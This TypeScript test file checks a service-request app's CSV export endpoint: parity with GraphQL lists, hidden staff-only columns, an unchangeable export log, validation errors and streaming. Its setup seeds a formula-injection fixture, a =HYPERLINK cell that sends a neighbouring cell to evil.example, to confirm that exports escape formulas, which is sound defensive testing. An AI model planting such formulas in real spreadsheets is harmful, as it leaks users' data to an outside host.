/**
 * CSV exports over HTTP (GET /export/<list>.csv): the same rows as the GraphQL list for the same caller
 * and filters, staff-only columns left out for portal users, every export logged with its purpose and row
 * count, refusals answered 400/404 and not logged, formula cells escaped, and a large export streamed.
 */
import { startTestApi, type TestApi } from '../support/api';
import { send, submittedRequest } from '../support/documents';

let t: TestApi;
const BOM = '\ufeff';

/** RFC 4180 rows (quoted cells, doubled quotes, line breaks inside quotes) */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  if (cell !== '' || row.length) row.push(cell), rows.push(row);
  return rows;
}

const exportUrl = (list: string, params: Record<string, string | string[]>) => {
  const url = new URL(t.url.replace(/\/graphql$/, `/export/${list}.csv`));
  for (const [k, v] of Object.entries(params)) for (const value of [v].flat()) url.searchParams.append(k, value);
  return url;
};

async function exportCsv(who: string, list: string, params: Record<string, string | string[]>, headers: Record<string, string> = {}) {
  const res = await fetch(exportUrl(list, params), { headers: { authorization: `Bearer ${t.tokens[who]}`, ...headers } });
  // (bytes: res.text() would drop a byte-order mark)
  const text = Buffer.from(await res.arrayBuffer()).toString('utf8');
  return { res, text, rows: res.status === 200 ? parseCsv(text.replace(/^\ufeff/, '')) : [] };
}

/** the ids a GraphQL list gives the same caller (all pages) */
async function listIds(who: string, filter: Record<string, unknown> = {}): Promise<string[]> {
  const ids: string[] = [];
  let after: string | null = null;
  for (;;) {
    const res: any = await t.gql(who, `query($after: String, $filter: ServiceRequestFilter) { serviceRequests(first: 100, after: $after, filter: $filter) { nodes { id } pageInfo { hasNextPage endCursor } } }`, { after, filter });
    expect(res.errors).toBeUndefined();
    ids.push(...res.data.serviceRequests.nodes.map((n: { id: string }) => n.id));
    if (!res.data.serviceRequests.pageInfo.hasNextPage) return ids;
    after = res.data.serviceRequests.pageInfo.endCursor;
  }
}

const logCount = async () => Number((await t.owner.query(`SELECT count(*) AS n FROM export_log_entry`))[0].n);

let formula: any;

beforeAll(async () => {
  t = await startTestApi();
  // Acme: one routed to TECH (with a staff-only note), one to SALES, one a formula in its description; Huaxia: one routed to TECH
  const tech = await submittedRequest(t, 'CUSTOMER_ACME');
  expect((await send(t, 'AGENT', 'acceptServiceRequest', { id: tech.id, targetDepartmentId: t.gid.department('TECH'), internalNote: 'customer is slow to pay' })).userErrors).toEqual([]);
  const sales = await submittedRequest(t, 'CUSTOMER_ACME');
  expect((await send(t, 'AGENT', 'acceptServiceRequest', { id: sales.id, targetDepartmentId: t.gid.department('SALES') })).userErrors).toEqual([]);
  formula = await submittedRequest(t, 'CUSTOMER_ACME', { description: '=HYPERLINK("http://evil.example/?"&A1,"click")', contactName: '@SUM(1+1)' });
  const huaxia = await submittedRequest(t, 'CUSTOMER_HUAXIA');
  expect((await send(t, 'AGENT', 'acceptServiceRequest', { id: huaxia.id, targetDepartmentId: t.gid.department('TECH') })).userErrors).toEqual([]);
}, 60_000);

afterAll(() => t?.close());

describe('the rows and columns are the GraphQL list\'s', () => {
  it('a supervisor exports exactly their department\'s requests, as the list shows them', async () => {
    const { res, text, rows } = await exportCsv('SUPERVISOR_TECH', 'service-requests', { purpose: 'monthly review of the TECH queue' });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(text.startsWith(BOM)).toBe(true);
    const [header, ...data] = rows;
    expect(header[0]).toBe('id');
    expect(header).toEqual(expect.arrayContaining(['number', 'state', 'internalNote', 'estimatedAmount', 'createdAt']));
    const listed = await listIds('SUPERVISOR_TECH');
    expect(listed).toHaveLength(2);
    expect(data.map((r) => r[0])).toEqual(listed);
    expect(res.headers.get('x-export-rows')).toBe('2');
    // the staff-only note is there for staff
    expect(data.map((r) => r[header.indexOf('internalNote')])).toContain('customer is slow to pay');
  });

  it('the list\'s filters apply, by the list\'s own rules', async () => {
    const { rows } = await exportCsv('AGENT', 'service-requests', { purpose: 'triage', state: 'SUBMITTED', customerId: t.gid.customer('ACME') });
    const listed = await listIds('AGENT', { state: ['SUBMITTED'], customerId: t.gid.customer('ACME') });
    expect(listed).toEqual([formula.id]);
    expect(rows.slice(1).map((r) => r[0])).toEqual(listed);
    // a list parameter repeated or comma-separated
    const both = await exportCsv('AGENT', 'service-requests', { purpose: 'triage', state: 'SUBMITTED,ACCEPTED' });
    const again = await exportCsv('AGENT', 'service-requests', { purpose: 'triage', state: ['SUBMITTED', 'ACCEPTED'] });
    expect(both.rows.slice(1).map((r) => r[0])).toEqual(await listIds('AGENT', { state: ['SUBMITTED', 'ACCEPTED'] }));
    expect(again.rows).toEqual(both.rows);
  });

  it('a customer\'s export has no staff-only columns and only its own organisation\'s rows', async () => {
    const { res, rows } = await exportCsv('CUSTOMER_ACME', 'service-requests', { purpose: '我們的年度服務記錄' });
    expect(res.status).toBe(200);
    const [header, ...data] = rows;
    for (const staffOnly of ['internalNote', 'estimatedAmount', 'complexity']) expect(header).not.toContain(staffOnly);
    expect(header).toEqual(expect.arrayContaining(['number', 'state', 'description']));
    expect(data.map((r) => r[0])).toEqual(await listIds('CUSTOMER_ACME'));
    expect(data).toHaveLength(3);
    expect(data.flat()).not.toContain('customer is slow to pay');
  });

  it('every document list is an export', async () => {
    for (const list of ['service-tasks', 'service-records', 'service-acceptances', 'access-requests', 'consultations', 'parts-requisitions', 'complaints', 'service-reports']) {
      const { res, rows } = await exportCsv('AGENT', list, { purpose: 'inventory of lists' });
      expect([list, res.status]).toEqual([list, 200]);
      expect(rows[0][0]).toBe('id');
    }
  });
});

describe('CSV safety', () => {
  it('cells that would start a formula are escaped with a quote; other text is kept as it is', async () => {
    const { rows, text } = await exportCsv('CUSTOMER_ACME', 'service-requests', { purpose: 'check', state: 'SUBMITTED' });
    const [header, row] = rows;
    expect(row[header.indexOf('description')]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(row[header.indexOf('contactName')]).toBe(`'@SUM(1+1)`);
    expect(text).not.toMatch(/(^|,|\n)=HYPERLINK/);
  });

  it('bom=false leaves the byte-order mark out (for programs that do not expect one)', async () => {
    const { text } = await exportCsv('AGENT', 'service-requests', { purpose: 'pipeline', bom: 'false' });
    expect(text.startsWith('id,')).toBe(true);
  });
});

describe('the export log', () => {
  it('logs who, what, why, how many and the request; executives read it, nobody can change it', async () => {
    const { res } = await exportCsv('SUPERVISOR_TECH', 'service-requests', { purpose: 'audit sample Q3', state: 'ACCEPTED' }, { 'x-request-id': 'export-log-test-1' });
    expect(res.status).toBe(200);
    const log = await t.gql('EXECUTIVE', `{ exportLog(first: 5) { totalCount nodes { id at userName roles exportName documentType parameters purpose rowCount requestId user { name } } } }`);
    expect(log.errors).toBeUndefined();
    const entry = log.data.exportLog.nodes[0];
    expect(entry).toMatchObject({
      id: res.headers.get('x-export-id'),
      userName: 'Wang Qiang (技術支持部主管)',
      roles: ['SUPERVISOR'],
      exportName: 'service-requests',
      documentType: 'ServiceRequest',
      parameters: { state: 'ACCEPTED' },
      purpose: 'audit sample Q3',
      rowCount: 2,
      requestId: 'export-log-test-1',
      user: { name: 'Wang Qiang (技術支持部主管)' },
    });
    const refused = await t.gql('SUPERVISOR_TECH', `{ exportLog { nodes { id } } }`);
    expect(refused.errors?.[0].extensions?.code).toBe('FORBIDDEN');
    // the application's role may add to the log and read it, never change or remove it
    await expect(t.dataSource.query(`UPDATE export_log_entry SET purpose = 'nothing to see'`)).rejects.toMatchObject({ driverError: { code: '42501' } });
    await expect(t.dataSource.query(`DELETE FROM export_log_entry`)).rejects.toMatchObject({ driverError: { code: '42501' } });
  });

  it('refuses an export without a purpose, of an unknown list, with a bad or unknown filter: a JSON error, nothing logged', async () => {
    const before = await logCount();
    const cases: Array<[string, Record<string, string>, number, string, string | null]> = [
      ['service-requests', {}, 400, 'VALIDATION', 'purpose'],
      ['service-requests', { purpose: '   ' }, 400, 'VALIDATION', 'purpose'],
      ['service-requests', { purpose: 'x', state: 'NOT_A_STATE' }, 400, 'VALIDATION', 'state[0]'],
      ['service-requests', { purpose: 'x', createdFrom: 'yesterday' }, 400, 'VALIDATION', 'createdFrom'],
      ['service-requests', { purpose: 'x', colour: 'red' }, 400, 'VALIDATION', 'colour'],
      ['service-requests', { purpose: 'x', bom: 'maybe' }, 400, 'VALIDATION', 'bom'],
      ['secret-salaries', { purpose: 'x' }, 404, 'NOT_FOUND', null],
    ];
    for (const [list, params, status, code, field] of cases) {
      const res = await fetch(exportUrl(list, params), { headers: { authorization: `Bearer ${t.tokens.AGENT}` } });
      const body = (await res.json()) as { errors: Array<{ message: string; extensions: { code: string; field: string | null } }> };
      expect([list, params, res.status, body.errors[0].extensions.code]).toEqual([list, params, status, code]);
      // the field names the URL parameter
      expect(body.errors[0].extensions.field).toBe(field);
      expect(body.errors[0].message.length).toBeGreaterThan(10);
      expect(JSON.stringify(body)).not.toMatch(/at .*\.ts:\d+/);
    }
    const anonymous = await fetch(exportUrl('service-requests', { purpose: 'x' }));
    expect(anonymous.status).toBe(401);
    expect(await logCount()).toBe(before);
  });
});

describe('a large export streams', () => {
  it('20,000 rows arrive in chunks while the cursor is still open, and all of them arrive', async () => {
    const N = 20_000;
    await t.owner.query(
      `INSERT INTO service_request (number, state, version, created_by_id, customer_id, channel, category, service_type, description, created_at)
       SELECT 'SR-BULK-' || g, 'DRAFT', 1, $1, $2, 'PAPER', 'PRE_SALES', 'TRAINING', repeat('大量資料 bulk ', 80), now() - g * interval '1 second' FROM generate_series(1, $3) g`,
      [t.ids.users.AGENT, t.ids.customers.ACME, N],
    );
    const res = await fetch(exportUrl('service-requests', { purpose: 'bulk check', channel: 'PAPER' }), { headers: { authorization: `Bearer ${t.tokens.AGENT}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    expect(res.headers.get('x-export-rows')).toBe(String(N));
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    const first = await reader.read();
    let text = decoder.decode(first.value, { stream: true });
    // the first rows are here, and the export's cursor is still open in its transaction: the server has not read every row
    // matched on the export statement's beginning: pg_stat_activity keeps only the first track_activity_query_size
    // (1024) bytes of a query, and a wide list's column list pushes its FROM "service_request" past them
    const openCursor = () =>
      t.owner.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state <> 'idle' AND query LIKE 'SELECT "d"."id" AS "id"%' AND pid <> pg_backend_pid()`);
    expect((await openCursor())[0].n).toBe(1);
    let chunks = 1;
    for (;;) {
      const { done, value } = await reader.read();
      if (done) break;
      chunks++;
      text += decoder.decode(value, { stream: true });
    }
    text += decoder.decode();
    expect(chunks).toBeGreaterThan(10);
    // (no cell of these rows holds a line break or a quote: lines are rows)
    const lines = text.replace(/^\ufeff/, '').trimEnd().split('\n');
    expect(lines).toHaveLength(N + 1);
    expect(new Set(lines.slice(1).map((l) => l.slice(0, l.indexOf(',')))).size).toBe(N);
    // and the cursor is closed once it has all been sent (polled: the COMMIT follows the last chunk)
    for (let i = 0; i < 100 && (await openCursor())[0].n !== 0; i++) await new Promise((r) => setTimeout(r, 20));
    expect((await openCursor())[0].n).toBe(0);
  }, 60_000);
});

describe('the statistics and a report as CSV', () => {
  const figure = (rows: string[][], name: string) => rows.find((r) => r[0] === name)?.[1];

  it('the statistics export is the statistics query, figure by figure, scoped the same; outsiders are refused', async () => {
    const now = new Date();
    const period = { from: new Date(now.getTime() - 86_400_000).toISOString(), to: new Date(now.getTime() + 86_400_000).toISOString() };
    for (const who of ['AGENT', 'SUPERVISOR_TECH', 'SUPERVISOR_SALES', 'CUSTOMER_HUAXIA']) {
      const gql = await t.gql(who, `query($f: StatisticsFilter) { statistics(filter: $f, bucket: DAY) { requests { received byChannel { key count } } } }`, { f: period });
      expect(gql.errors).toBeUndefined();
      const { res, rows } = await exportCsv(who, 'statistics', { purpose: 'KPI review', ...period, bucket: 'DAY' });
      expect([who, res.status]).toEqual([who, 200]);
      expect(rows[0]).toEqual(['figure', 'value']);
      expect([who, Number(figure(rows, 'requests.received'))]).toEqual([who, gql.data.statistics.requests.received]);
      for (const { key, count } of gql.data.statistics.requests.byChannel) expect(Number(figure(rows, `requests.byChannel.${key}.count`))).toBe(count);
    }
    // four requests were filed today, three of them routed to TECH or SALES: the scopes differ, so the comparison above means something
    const all = await exportCsv('AGENT', 'statistics', { purpose: 'KPI review', ...period });
    const sales = await exportCsv('SUPERVISOR_SALES', 'statistics', { purpose: 'KPI review', ...period });
    expect(Number(figure(all.rows, 'requests.received'))).toBe(4);
    expect(Number(figure(sales.rows, 'requests.received'))).toBe(1);

    const before = await logCount();
    const archivist = await exportCsv('ARCHIVIST', 'statistics', { purpose: 'curious', ...period });
    expect(archivist.res.status).toBe(403);
    expect(JSON.parse(archivist.text).errors[0].extensions.code).toBe('FORBIDDEN');
    // a bare date would mean UTC midnight, not the company's: refused, as the query's DateTimeISO refuses it
    const bareDate = await exportCsv('AGENT', 'statistics', { purpose: 'KPI review', from: '2026-03-01', to: period.to });
    expect([bareDate.res.status, JSON.parse(bareDate.text).errors[0].extensions.field]).toEqual([400, 'from']);
    const badBucket = await exportCsv('AGENT', 'statistics', { purpose: 'KPI review', bucket: 'FORTNIGHT' });
    expect([badBucket.res.status, JSON.parse(badBucket.text).errors[0].extensions.field]).toEqual([400, 'bucket']);
    const badDepartment = await exportCsv('AGENT', 'statistics', { purpose: 'KPI review', departmentId: t.gid.customer('ACME') });
    expect([badDepartment.res.status, JSON.parse(badDepartment.text).errors[0].extensions.field]).toEqual([400, 'departmentId']);
    expect(await logCount()).toBe(before);
    const logged = await t.owner.query(`SELECT purpose, row_count FROM export_log_entry WHERE export_name = 'statistics'`);
    expect(logged).toEqual(expect.arrayContaining([{ purpose: 'KPI review', row_count: all.rows.length - 1 }, { purpose: 'KPI review', row_count: sales.rows.length - 1 }]));
  });

  it('a report exports its heading and frozen figures to those who read it, and is NOT_FOUND to others', async () => {
    const now = new Date();
    const created = await t.gql('SUPERVISOR_TECH', `mutation($input: CreateServiceReportInput!) { createServiceReport(input: $input) { serviceReport { id number figures } userErrors { code message } } }`, {
      input: { kind: 'YEARLY', departmentId: t.gid.department('TECH'), year: now.getUTCFullYear() },
    });
    expect(created.data.createServiceReport.userErrors).toEqual([]);
    const report = created.data.createServiceReport.serviceReport;
    const { res, rows } = await exportCsv('SUPERVISOR_TECH', 'service-report', { purpose: 'annual review', id: report.id });
    expect(res.status).toBe(200);
    expect(rows.slice(0, 3)).toEqual([['figure', 'value'], ['number', report.number], ['kind', 'YEARLY']]);
    expect(Number(figure(rows, 'requests.received'))).toBe(report.figures.requests.received);
    expect(report.figures.requests.received).toBe(2);

    const before = await logCount();
    const outsider = await exportCsv('SUPERVISOR_SALES', 'service-report', { purpose: 'peek', id: report.id });
    expect(outsider.res.status).toBe(404);
    const customer = await exportCsv('CUSTOMER_ACME', 'service-report', { purpose: 'peek', id: report.id });
    expect(customer.res.status).toBe(404);
    const missing = await exportCsv('SUPERVISOR_TECH', 'service-report', { purpose: 'annual review' });
    expect([missing.res.status, JSON.parse(missing.text).errors[0].extensions.field]).toEqual([400, 'id']);
    expect(await logCount()).toBe(before);
  });
});
